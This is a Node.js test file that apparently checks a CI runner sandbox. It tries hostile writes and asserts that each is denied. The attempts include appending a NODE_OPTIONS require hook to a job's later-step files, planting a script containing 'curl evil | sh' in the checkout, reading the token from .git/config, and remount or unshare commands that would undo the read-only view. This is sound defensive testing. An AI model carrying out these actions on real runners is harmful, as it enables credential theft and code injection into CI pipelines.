// Run by the runner's own user (testcage not root), these tests go for what that user
// can write outside the run and a later step of the job would use: HOSTILE_TARGETS
// (":"-separated; the job's file-command file, the action's post script, a tool in the
// tool cache), the checkout at HOSTILE_CHECKOUT (planting a script, reading the token
// in .git/config), /dev/shm; then they try to undo the read-only view (remount, unmount,
// a nested namespace). HOSTILE_TARGETS includes a runner file in /tmp. Each attempt must
// fail; the run's own folders and its own /tmp must work.
import { test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const targets = process.env.HOSTILE_TARGETS.split(":");
const checkout = process.env.HOSTILE_CHECKOUT;

function attempt(what, fn) {
  try {
    fn();
  } catch (err) {
    console.log("HOSTILE-DENIED", what, err.code);
    return err.code;
  }
  console.log("HOSTILE-DONE", what);
  return "done";
}

test("the runner's files a later step uses cannot be written", () => {
  for (const target of targets) {
    assert.notEqual(
      attempt(target, () => appendFileSync(target, "\nNODE_OPTIONS=--require=/tmp/hostile.js\n")),
      "done",
    );
  }
});

test("the checkout cannot be planted in", () => {
  assert.notEqual(
    attempt("plant", () => writeFileSync(join(checkout, "hostile-planted.sh"), "curl evil | sh\n")),
    "done",
  );
  assert.notEqual(
    attempt("rewrite", () => appendFileSync(join(checkout, "package.json"), " ")),
    "done",
  );
});

test("the checkout's token cannot be read", () => {
  let text = "";
  const code = attempt("token", () => (text = readFileSync(join(checkout, ".git", "config"), "utf8")));
  if (text) console.log("HOSTILE-READ", text);
  assert.notEqual(code, "done");
});

test("the run's own folders and its own /tmp stay writable", () => {
  writeFileSync("written-in-the-copy.txt", "x");
  writeFileSync(join(process.env.TMPDIR, "written-in-tmpdir.txt"), "x");
  writeFileSync(join(process.env.HOME, "written-in-home.txt"), "x");
  // The run's own /tmp: the host's /tmp must not have these afterwards.
  const inTmp = mkdtempSync("/tmp/hostile-runner-files-");
  writeFileSync(join(inTmp, "written-in-tmp.txt"), "x");
  rmSync(inTmp, { recursive: true });
  writeFileSync("/tmp/hostile-runner-files-planted", "x");
  writeFileSync("/dev/shm/hostile-runner-files-planted", "x");
});

test("the read-only view cannot be undone", () => {
  const tries = [
    ["mount", "-o", "remount,rw", "/"],
    ["umount", "-l", "/"],
    ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", `mount -o remount,rw / && echo >> ${targets[0]}`],
  ];
  for (const argv of tries) {
    const r = spawnSync(argv[0], argv.slice(1), { encoding: "utf8" });
    console.log("HOSTILE-TRY", argv.join(" "), r.status, (r.stderr ?? "").trim());
    assert.notEqual(r.status, 0, argv.join(" "));
  }
  for (const target of targets)
    assert.notEqual(
      attempt(`${target} again`, () => appendFileSync(target, "x")),
      "done",
    );
});
